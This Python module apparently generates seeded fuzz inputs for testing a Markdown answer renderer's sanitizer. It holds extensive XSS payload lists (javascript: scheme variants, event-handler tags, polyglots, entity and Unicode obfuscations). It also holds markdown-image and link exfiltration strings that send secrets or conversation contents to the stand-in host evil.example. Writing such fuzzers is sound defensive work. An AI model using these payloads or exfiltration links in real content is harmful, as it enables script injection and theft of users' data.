"""Random hostile answers by seed: families of payloads in every context of Markdown.

All of it is written here. `CHAPTERVERSE_PAYLOADS` names a folder of text files with more, one payload a line.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from random import Random
from typing import Any

#: How many answers each engine renders.
RENDERS = int(os.environ.get("CHAPTERVERSE_RENDERS", "2000"))

#: What each payload tries to run, and whom it tries to tell.
RUN = "window.hacked=1"
HOST = "evil.example"

SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:",
    "javascript&colon;", "&#106;avascript:", "&#x6A;avascript&#58;", "java&Tab;script:", "javascript\u2028:",
    "javascript\\:", "%6aavascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,",
    "blob:", "file:///", "feed:javascript:", "view-source:", "jar:", "about:blank#", "//", "\\\\", "https:\\\\",
    "http:/\\", "https://user:pw@", "https://\u202e", "https://[", "https://%00", "http://0x7f.1/", "filesystem:",
    "ws://", "mailto:", "tel:", "intent://", "ftp://",
)  # fmt: skip
TAGS = (
    "<script>{run}</script>", "<script src=//{host}/x.js></script>", "<img src=x onerror={run}>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>", "<body onload={run}>",
    "<iframe src='javascript:{run}'></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data='javascript:{run}'>", "<embed src='//{host}/x.swf'>", "<a href='javascript:{run}'>x</a>",
    "<form action=//{host}><input name=q><button>go</button></form>", "<base href=//{host}/>",
    "<link rel=stylesheet href=//{host}>", "<meta http-equiv=refresh content='0;url=//{host}'>",
    "<style>*{{background:url(//{host})}}</style>", "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>", "<input autofocus onfocus={run}>", "<marquee onstart={run}>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<svg><style><img src=x onerror={run}></style></svg>", "<math><mi//xlink:href='data:x,<script>{run}</script>'>",
    "<!--><img src=x onerror={run}>-->", "<![CDATA[><img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "<img src=`x`onerror={run}>", "<scr<script>ipt>{run}</scr</script>ipt>", "<dialog open>", "<portal src=//{host}>",
    "<chapter-verse></chapter-verse>", "<img srcset='//{host}/a 1x'>", "<a ping=//{host} href=/>x</a>",
    "<button formaction=javascript:{run}>x</button>", "<table background=//{host}>",
    "<b onclick={run} style='position:fixed;inset:0'>x</b>", "<slot name=x onslotchange={run}>",
)  # fmt: skip
POLYGLOTS = (
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{run} )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={run}//>"),
    "\"'><img src=x onerror={run}>", "';{run}//", "</code></pre><script>{run}</script>", "-->\"'/><svg onload={run}>",
    "${{{run}}} {{{{{run}}}}} <%= {run} %> #{{{run}}}", "`${{{run}}}`", '\\"><svg/onload={run}>',
    "]](javascript:{run})[[", "*/{run}/*", '](javascript:{run}) "onmouseover={run}', '[x](<javascript:{run}> "t")',
    '<https://{host}" onclick={run}>',
)  # fmt: skip
NAMES = (
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "innerHTML", "attributes", "childNodes",
    "cookie", "body", "forms", "getElementById", "createElement", "location", "append", "nodeName", "parentNode",
    "trustedTypes", "start",
)  # fmt: skip
HIDDEN = (
    "\u202e", "\u2066", "\u2069", "\u200b", "\u200d", "\xad", "\ufeff", "\x00", "\x08", "\x1b", "\x7f", "\x85",
    "\u2028", "\ufdd0", "\ufdd1", "\ufdd00\ufdd1", "\ud800", "\udfff", "\U000e0041", "\ufffe", "\u061c", "\u180e",
    "\ufb00", "K", "\u017f", "\uff1c", "\ufe64", "\u0338",
)  # fmt: skip

#: Ways to write a character as an entity.
STYLES: tuple[Callable[[str], str], ...] = (
    lambda c: f"&#{ord(c)};",
    lambda c: f"&#x{ord(c):x};",
    lambda c: f"&#X{ord(c):05X};",
    lambda c: f"&#{ord(c):06d}",
    lambda c: f"&amp;#{ord(c)};",
    lambda c: {"<": "&lt;", ">": "&gt;", '"': "&quot;", "&": "&amp;"}.get(c, c),
)

#: What may stand around a payload, again and again.
PAIRS = (
    ("[", "](/x)"), ("**", "**"), ("`", "`"), ("![", f"](https://{HOST}/p.png)"), ("<", ">"), ("*", "*"), ("[[", "]]"),
    ("\n> ", ""), ("\n- ", ""), ("~~~\n", "\n~~~"),
)  # fmt: skip
PILES = (
    "> ", "- ", "1. ", "*a ", "**", "[", "![", "](", "`", "<b>", "| ", "&#60;", "\\", "  - ", "_a*b", "[a](<",
)  # fmt: skip

#: Ways to tell a secret to somebody else.
LEAKS = (
    "![x](https://{h}/p.png?q={s})", "![x][y]\n\n[y]: https://{h}/?q={s}", "[click](https://{h}/?q={s})",
    "![x](//{h}/{s})", "<img src='//{h}/?{s}'>", "[![x](https://{h}/{s})](https://{h})", "<https://{h}/{s}>", "![](<https://{h}/{s}>)",
    "https://{h}/{s}", "[x]: https://{h}/{s}\n[x]", "![x](https://{h}\\{s})", "<link rel=prefetch href=//{h}/{s}>",
    "```html\n<img src=//{h}/{s}>\n```",
)  # fmt: skip
SECRETS = ("sk-live-1234", "{{conversation}}", "%s", "cookie=1")

#: Where the name of something that every object or document has may stand.
NAMED = (
    "<a id={n} name={n}>", "[{n}](#{n})", "```{n}\nx\n```", "[x](/{n})", "&{n};", "| {n} |\n| {n} |",
    "| a |\n|-|\n| {n} |", "<form id={n}><input name={n}>",
)  # fmt: skip


def _scheme(chance: Random) -> str:
    rest = (RUN, f"alert({RUN})", f"{HOST}/x", f"<script>{RUN}</script>", f"%0a{RUN}", "")
    return chance.choice(SCHEMES) + chance.choice(rest)


def _tag(chance: Random) -> str:
    return chance.choice(TAGS).format(run=RUN, host=HOST)


def _polyglot(chance: Random) -> str:
    return chance.choice(POLYGLOTS).format(run=RUN, host=HOST)


def _half_open(chance: Random) -> str:
    text = chance.choice((_tag, _polyglot))(chance)
    return text[: chance.randrange(1, len(text) + 1)]


def _entities(chance: Random) -> str:
    """Write a tag or an address by entities: decoded once they are text, decoded twice they would be markup."""
    style = chance.choice(STYLES)
    return "".join(style(c) if chance.random() < 0.7 else c for c in chance.choice((_tag, _scheme))(chance))


def _unicode(chance: Random) -> str:
    text = list(chance.choice((_tag, _scheme, _polyglot))(chance))
    for _ in range(chance.randint(1, 6)):
        text.insert(chance.randrange(len(text) + 1), chance.choice(HIDDEN))
    return "".join(text)


def _nested(chance: Random) -> str:
    text = chance.choice((_tag, _scheme))(chance)
    for _ in range(chance.randint(2, 5)):
        opening, closing = chance.choice(PAIRS)
        text = opening + text + closing
    return text


def _huge(chance: Random) -> str:
    return chance.choice(PILES) * chance.randint(50, 400) + _tag(chance)


def _exfiltration(chance: Random) -> str:
    return chance.choice(LEAKS).format(h=HOST, s=chance.choice(SECRETS))


def _names(chance: Random) -> str:
    return chance.choice(NAMED).format(n=chance.choice(NAMES))


FAMILIES = (
    _scheme, _tag, _polyglot, _half_open, _entities, _unicode, _nested, _huge, _exfiltration, _names,
)  # fmt: skip

#: Where a payload stands in an answer.
CONTEXTS = (
    "{}", "[x]({})", "[x](<{}>)", '[x](/y "{}")', "![x]({})", "![{}](https://evil.example/p.png)", "[{}](/x)",
    "[x]: {}\n\n[x] and [y][x]", "<{}>", "`{}`", "``{}", "```{}\nx\n```", "```\n{}\n```", "```js\n{}", "# {}",
    "{}\n===", "- {}", "1. a\n   - {}", "| {} | b |\n|---|:-:|\n| c | {} |", "> {}", "> - {}\n> more", "**{}**",
    "*a **{}* b", "_{}_", "https://a.org/{}", "https://{}", "<https://a.org/{}>", "[a](https://a.org/{})", "&{};",
    "\\{}", "words {} words  \n{}", "[![{}]({})]({})", "- [ ] {}\n\n      {}", "{}\ufdd00\ufdd1",
    "[x](https://a.org/?q={}&amp;r=1)",
)  # fmt: skip


def answers(count: int, seed: int = 0) -> Iterator[list[dict[str, Any]]]:
    """Make answers as the segments that the API sends; of some, each prefix in turn, as a stream shows them."""
    chance = Random(seed)
    more = _foreign()
    made = 0
    while made < count:
        text = _answer(chance, more)
        ends = range(1, len(text) + 1) if chance.random() < 0.02 else [len(text)]
        for end in ends:
            yield _segments(chance, text[:end])
            made += 1
            if made == count:
                return


def _answer(chance: Random, more: list[str]) -> str:
    parts = []
    for _ in range(chance.randint(1, 3)):
        foreign = more and chance.random() < 0.5
        payload = chance.choice(more) if foreign else chance.choice(FAMILIES)(chance)
        parts.append(chance.choice(CONTEXTS).replace("{}", payload))
    return chance.choice(("\n\n", "\n", " ", "")).join(parts)


def _segments(chance: Random, text: str) -> list[dict[str, Any]]:
    cuts = sorted(chance.randrange(len(text) + 1) for _ in range(chance.choice((0, 0, 1, 3))))
    edges = [0, *cuts, len(text)]
    pieces = [text[start:end] for start, end in pairwise(edges)]
    return [{"text": piece, "citations": chance.choice(([], ["1"], ["__proto__"]))} for piece in pieces]


def _foreign() -> list[str]:
    """Return the payloads that are not ours."""
    folder = os.environ.get("CHAPTERVERSE_PAYLOADS")
    files = sorted(Path(folder).rglob("*.txt")) if folder else []
    lines = [line for file in files for line in file.read_text("utf-8", "replace").splitlines()]
    if folder and not lines:
        raise ValueError(f"CHAPTERVERSE_PAYLOADS={folder} holds no *.txt with payloads: name a folder that does.")
    return [line for line in lines if line.strip()]
